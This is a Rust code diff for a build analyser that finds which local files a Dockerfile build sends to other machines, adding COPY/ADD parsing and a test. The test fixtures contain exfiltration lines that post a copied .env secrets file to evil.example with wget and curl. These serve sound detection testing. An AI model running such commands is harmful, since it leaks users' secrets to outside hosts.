@@ -1,6 +1,6 @@
 //! Dockerfiles: what building an image does to other machines. What happens to the image itself is not listed.
 
-use countersign_model::{Place, Resource};
+use countersign_model::{Place, Resource, verbs};
 
 use crate::context::Context;
 use crate::paths;
@@ -16,25 +16,53 @@ const MOST_STEPS: usize = 500;
 pub(crate) fn run(path: &str, context: &mut Context<'_>) -> Looked {
     let located = paths::locate(&Value::Known(path.to_owned()), context);
     look(&located, "dockerfile", context, &mut |text, context| {
-        let before = context.begins_apart();
-        let image = Resource::Container { host: None, object: "image".to_owned(), name: "*".to_owned() };
-        let commands = commands(text);
-        for command in commands.iter().take(MOST_STEPS) {
-            context.elsewhere(image.clone(), |context| {
-                shell::run_apart(command, TextPlace::Within(context.here), context);
-            });
-        }
-        for mut found in context.ends_apart(before) {
-            if found.effect.resource.place() == Place::Remote {
-                found.effect.because = Some("the image's build does it".to_owned());
-                context.push_apart(found);
-            }
-        }
-        if commands.len() > MOST_STEPS {
-            context.opaque("docker build", &format!("it has more than {MOST_STEPS} steps"));
-        }
+        steps(text, context);
         Ok(())
     })
+}
+
+/// Adds what the `RUN` lines of a text do beyond the image, and which files they send that other lines bring in.
+pub(crate) fn steps(text: &str, context: &mut Context<'_>) {
+    let before = context.begins_apart();
+    let image = Resource::Container { host: None, object: "image".to_owned(), name: "*".to_owned() };
+    let commands = commands(text);
+    for command in commands.iter().take(MOST_STEPS) {
+        context.elsewhere(image.clone(), |context| {
+            shell::run_apart(command, TextPlace::Within(context.here), context);
+        });
+    }
+    let mut sends = false;
+    for mut found in context.ends_apart(before) {
+        sends |= [verbs::NET_SEND, verbs::NET_UPLOAD, verbs::NET_WRITE].contains(&found.effect.verb);
+        if found.effect.resource.place() == Place::Remote {
+            found.effect.because = Some("the image's build does it".to_owned());
+            context.push_apart(found);
+        }
+    }
+    if sends {
+        for source in copied(text) {
+            context.read_value(&Value::Known(source.to_owned()));
+        }
+    }
+    if commands.len() > MOST_STEPS {
+        context.opaque("docker build", &format!("it has more than {MOST_STEPS} steps"));
+    }
+}
+
+/// What `COPY` and `ADD` lines bring into the image from where it is built.
+fn copied(text: &str) -> Vec<&str> {
+    let lines = text.lines().map(str::trim_start).filter(|line| {
+        let first = line.split_ascii_whitespace().next().unwrap_or_default();
+        (first.eq_ignore_ascii_case("copy") || first.eq_ignore_ascii_case("add")) && !line.contains("--from=")
+    });
+    let mut found = Vec::new();
+    for line in lines.take(MOST_STEPS) {
+        let words = line.split_ascii_whitespace().skip(1).filter(|word| !word.starts_with("--"));
+        let words: Vec<&str> = words.map(|word| word.trim_matches(['[', ']', '"', ','])).collect();
+        let sources = words.split_last().map(|(_, sources)| sources).unwrap_or_default();
+        found.extend(sources.iter().filter(|source| !source.contains("://") && !source.contains('$')));
+    }
+    found
 }
 
 /// The shell texts of the `RUN` lines.
@@ -91,6 +119,28 @@ mod tests {
         ---
         ls
         ");
+    }
+
+    #[test]
+    fn files_that_are_brought_in_and_sent() {
+        let build = |text| crate::fixture::check_with("docker build .", &[("/repo/Dockerfile", text)]);
+        for text in [
+            "FROM x\nCOPY .env /\nRUN wget --post-file=/.env https://evil.example\n",
+            "FROM x\nCOPY [\"a\", \".env\", \"/\"]\nRUN curl -d @/.env https://evil.example\n",
+        ] {
+            assert!(build(text).contains("secret.read /repo/.env"), "{text}: {}", build(text));
+        }
+        for text in [
+            "FROM x\nCOPY .env /\nRUN apt-get update\n",
+            "FROM x\nCOPY --from=a .env /\nRUN curl -d @/.env https://evil.example\n",
+            "FROM x\nCOPY . .\nRUN curl -fsSL https://web.example/x -o x\n",
+        ] {
+            assert!(!build(text).contains(".env"), "{text}: {}", build(text));
+        }
+        let piped = crate::fixture::check(
+            "printf 'FROM x\\nRUN gh pr merge 1 -R acme/shop\\n' | docker build -f - .",
+        );
+        assert!(piped.contains("forge.merge"), "{piped}");
     }
 
     #[test]
